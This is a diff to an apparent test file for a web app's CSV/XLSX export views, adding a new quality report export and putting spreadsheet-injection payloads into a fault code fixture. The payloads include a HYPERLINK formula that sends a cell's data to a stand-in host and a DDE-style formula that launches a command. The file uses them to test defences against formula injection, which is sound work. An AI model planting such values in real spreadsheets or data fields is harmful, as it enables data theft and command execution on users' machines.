@@ -26,6 +26,7 @@ from tests.customers.factories import CustomerFactory, UnitFactory
 from tests.parts.factories import PartFactory, SupplierFactory, WarehouseFactory
 from tests.reports.factories import local, survey
 from tests.tickets.factories import TicketFactory
+from tickets.models import FaultCode
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"点击")'
 AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -49,6 +50,7 @@ EXPORTS: dict[str, Export] = {
     "parts:catalogue_export": Export(("csv", "xlsx")),
     "parts:counts_export": Export(("csv", "xlsx"), kwargs={"pk": "warehouse"}),
     "reports:monthly_export": Export(("csv", "xlsx"), query={"month": "2026-10"}, other_formats=("pdf",)),
+    "reports:quality_export": Export(("xlsx",), query={"month": "2026-10"}, other_formats=("pdf",)),
     "reports:call_register_export": Export(
         ("csv", "xlsx"), query={"date_from": "2026-10-01", "date_to": "2026-10-31"}
     ),
@@ -101,6 +103,10 @@ def poisoned(db):
         completed_at=local(2026, 10, 10, 15),
     )
     survey(ticket, (1, 1, 1, 1), answered_at=local(2026, 10, 11, 10), comment=HYPERLINK)
+    ticket.fault_code = FaultCode.objects.create(
+        product_model=ticket.unit.product_model, code=MINUS, symptom=HYPERLINK, likely_cause=AT_SUM
+    )
+    ticket.save(update_fields=["fault_code"])
     return {"user": boss, "warehouse": warehouse}
 
 
